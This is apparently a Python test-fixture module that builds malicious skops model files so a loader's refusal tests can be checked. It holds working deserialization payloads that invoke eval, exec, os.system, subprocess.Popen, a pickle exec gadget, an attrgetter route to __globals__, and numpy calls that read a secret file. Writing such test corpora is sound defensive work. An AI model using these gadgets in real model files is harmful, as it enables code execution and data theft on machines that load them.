"""Crafted skops artifacts, as an attacker who can write a model file would make them.

Each payload is the schema skops reads (``schema.json`` in the zip), built from the node
kinds skops knows (``ConstructorFromReduceNode`` calls ``cls(*args)``, ``LossNode`` calls
its constructor, ``ObjectNode`` builds an instance and runs ``__setstate__``,
``OperatorFuncNode`` builds an ``operator`` function, ``FunctionNode`` is a function
reference an estimator calls later, ``MethodNode`` a bound method). Every payload does harm
when it is trusted — it writes, reads or runs something in the watched folder — which
``test_payloads_do_harm_when_trusted`` proves in a child process, so that the refusal tests
cannot pass on a corpus of harmless files.
"""
from __future__ import annotations

import io
import json
import pickle
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

#: the module a "custom class" payload names; importing it leaves a trace
EVIL_MODULE = "lakebook_evil_payload"
EVIL_SOURCE = '''
import pathlib, os
WATCHED = pathlib.Path(os.environ["LAKEBOOK_WATCHED"])
(WATCHED / "pwned_import").write_text("imported")


class Evil:
    def __setstate__(self, state):
        (WATCHED / "pwned_setstate").write_text("constructed")
'''


# -- nodes ------------------------------------------------------------------------------------
def js(value: Any) -> dict:
    return {"__class__": type(value).__name__, "__module__": "builtins",
            "__loader__": "JsonNode", "content": json.dumps(value), "is_json": True}


def tup(*items: dict) -> dict:
    return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
            "content": list(items)}


def lst(*items: dict) -> dict:
    return {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode",
            "content": list(items)}


def dct(**items: dict) -> dict:
    keys = lst(*({"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"}
                 for _ in items))
    return {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
            "content": dict(items), "key_types": keys}


def call(module: str, name: str, *args: Any) -> dict:
    """``module.name(*args)`` at load time."""
    return {"__class__": name, "__module__": module, "__loader__": "ConstructorFromReduceNode",
            "content": tup(*(a if isinstance(a, dict) else js(a) for a in args))}


def loss_call(module: str, name: str, *args: Any) -> dict:
    """The same call through skops' ``LossNode`` (a reduce with the file's constructor)."""
    return {"__class__": name, "__module__": module, "__loader__": "LossNode",
            "__reduce__": {"args": tup(*(js(a) for a in args))}, "content": dct()}


def obj(module: str, name: str, **state: dict) -> dict:
    """An instance of ``module.name`` built with ``__new__`` and ``__setstate__(state)``."""
    return {"__class__": name, "__module__": module, "__loader__": "ObjectNode",
            "content": dct(**state)}


def function(module: str, name: str) -> dict:
    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode"}


def operator_func(name: str, *args: Any) -> dict:
    return {"__class__": name, "__module__": "operator", "__loader__": "OperatorFuncNode",
            "attrs": tup(*(js(a) for a in args))}


def bytes_node(data: bytes, files: dict[str, bytes], key: str) -> dict:
    files[f"{key}.bin"] = data
    return {"__class__": "bytes", "__module__": "builtins", "__loader__": "BytesNode",
            "file": f"{key}.bin"}


def function_transformer(func: dict) -> dict:
    """A FunctionTransformer whose ``func`` the estimator calls on every transform."""
    return obj("sklearn.preprocessing._function_transformer", "FunctionTransformer",
               func=func, inverse_func=js(None), validate=js(False), accept_sparse=js(False),
               check_inverse=js(False), feature_names_out=js(None), kw_args=js(None),
               inv_kw_args=js(None))


def artifact(root: dict, files: dict[str, bytes] | None = None) -> bytes:
    """The skops zip holding ``root`` (and extra member files)."""
    import skops
    from skops.io._protocol import PROTOCOL
    schema = {**root, "protocol": PROTOCOL, "_skops_version": skops.__version__}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("schema.json", json.dumps(schema))
        for name, data in (files or {}).items():
            z.writestr(name, data)
    return buffer.getvalue()


# -- the corpus -------------------------------------------------------------------------------
@dataclass
class Payload:
    """One crafted artifact: ``names`` are type names its refusal must mention; ``trigger``
    is what an estimator would later do with the loaded object (for function references)."""

    name: str
    data: bytes
    names: list[str]
    trigger: Callable[[Any], Any] | None = None
    notes: str = ""
    extra: dict = field(default_factory=dict)


def corpus(watched: Path) -> list[Payload]:
    """The payloads, aimed at ``watched`` (a folder holding ``secret.txt``, ``evil.npy``,
    ``evil.mat``, ``src.f``)."""
    w = str(watched)
    secret = str(watched / "secret.txt")
    out: list[Payload] = []

    def add(name: str, root: dict, names: list[str], files: dict | None = None,
            trigger: Callable | None = None) -> None:
        out.append(Payload(name, artifact(root, files), names, trigger))

    writer = f"open({w + '/pwned_code'!r}, 'w').write('x')"
    add("builtins.eval", call("builtins", "eval", writer), ["builtins.eval"])
    add("builtins.exec", call("builtins", "exec", writer), ["builtins.exec"])
    add("os.system", call("os", "system", f"touch {w}/pwned_os"), ["os.system"])
    add("posix.system", call("posix", "system", f"touch {w}/pwned_posix"), ["posix.system"])
    add("subprocess.Popen", call("subprocess", "Popen", ["touch", f"{w}/pwned_popen"]),
        ["subprocess.Popen"])
    add("custom class", obj(EVIL_MODULE, "Evil", x=js(1)), [f"{EVIL_MODULE}.Evil"])
    add("importlib.import_module", call("importlib", "import_module", EVIL_MODULE),
        ["importlib.import_module"])
    files: dict[str, bytes] = {}
    add("pickle.loads", call("pickle", "loads", bytes_node(
        pickle.dumps(_PickleWriter(f"{w}/pwned_pickle")), files, "p")),
        ["pickle.loads"], files)
    add("numpy.load (allow_pickle)", call("numpy", "load", f"{w}/evil.npy", None, True),
        ["numpy.load"])
    memmap = call("numpy", "memmap", f"{w}/pwned_memmap", "uint8", "w+", 0, 8)
    add("numpy.memmap", memmap, ["numpy.memmap"])
    add("numpy.copyto + numpy.memmap",
        call("numpy", "copyto", call("numpy", "memmap", f"{w}/pwned_copyto", "uint8", "w+",
                                     0, 4), lst(*(js(b) for b in b"pwnd")), "unsafe"),
        ["numpy.copyto", "numpy.memmap"])
    add("numpy.genfromtxt", call("numpy", "genfromtxt", secret, "U20"), ["numpy.genfromtxt"])
    add("numpy.fromregex", call("numpy", "fromregex", secret, "(.*)", "U20"),
        ["numpy.fromregex"])
    add("numpy.fromfile", call("numpy", "fromfile", secret, "uint8"), ["numpy.fromfile"])
    add("numpy.lib.format.read_array",
        call("numpy.lib.format", "read_array", call("builtins", "open", f"{w}/evil.npy", "rb")),
        ["numpy.lib.format.read_array", "builtins.open"])
    add("numpy DataSource", call("numpy.lib._datasource", "open", secret, "r", f"{w}/ds"),
        ["numpy.lib._datasource.open"])
    add("numpy DataSource (temp folder)", call("numpy.lib.npyio", "DataSource", None),
        ["numpy.lib.npyio.DataSource"])
    add("scipy.io.loadmat", call("scipy.io", "loadmat", f"{w}/evil.mat"), ["scipy.io.loadmat"])
    add("scipy.io.savemat", call("scipy.io", "savemat", f"{w}/pwned.mat", dct(a=js(1))),
        ["scipy.io.savemat"])
    add("numpy.f2py", call("numpy.f2py", "run_main",
                           ["-h", f"{w}/pwned.pyf", "-m", "x", f"{w}/src.f"]),
        ["numpy.f2py.run_main"])
    import numpy._core
    add("numpy.ctypeslib", call("numpy.ctypeslib", "load_library", "_multiarray_umath",
                                str(Path(numpy._core.__file__).parent)),
        ["numpy.ctypeslib.load_library"])
    add("operator.attrgetter gadget",
        function_transformer(operator_func("attrgetter", "__class__.__init__.__globals__")),
        ["operator.attrgetter"], trigger=lambda t: t.transform(t))
    add("test helper: numpy.testing runstring",
        call("numpy.testing._private.utils", "runstring", writer, dct()),
        ["numpy.testing._private.utils.runstring"])
    add("test helper: sklearn assert_run_python_script",
        call("sklearn.utils._testing", "assert_run_python_script_without_output",
             f"open({w + '/pwned_script'!r}, 'w').write('x')"),
        ["sklearn.utils._testing.assert_run_python_script_without_output"])
    add("function reference: FunctionTransformer(func=os.system)",
        function_transformer(function("os", "system")), ["os.system"],
        trigger=lambda t: t.transform(f"touch {w}/pwned_func"))
    add("LossNode constructor: os.system", loss_call("os", "system", f"touch {w}/pwned_loss"),
        ["os.system"])
    add("numpy.save", call("numpy", "save", f"{w}/pwned_save.npy", lst(js(1))), ["numpy.save"])
    return out


class _PickleWriter:
    """Unpickling it writes a file (what a pickle payload does)."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (exec, (f"open({self.path!r}, 'w').write('x')",))


def prepare_watched(watched: Path, module_dir: Path) -> None:
    """Fill the watched folder with the files the payloads read, and write the module the
    custom-class payloads name (importing it writes ``pwned_import``)."""
    import numpy as np
    import scipy.io
    watched.mkdir(parents=True, exist_ok=True)
    (watched / "secret.txt").write_text("top secret\n")
    np.save(watched / "evil.npy", np.array([1, 2, 3]))
    scipy.io.savemat(watched / "evil.mat", {"a": 1})
    (watched / "src.f").write_text("      subroutine foo(a)\n      real a\n      end\n")
    module_dir.mkdir(parents=True, exist_ok=True)
    (module_dir / f"{EVIL_MODULE}.py").write_text(EVIL_SOURCE)
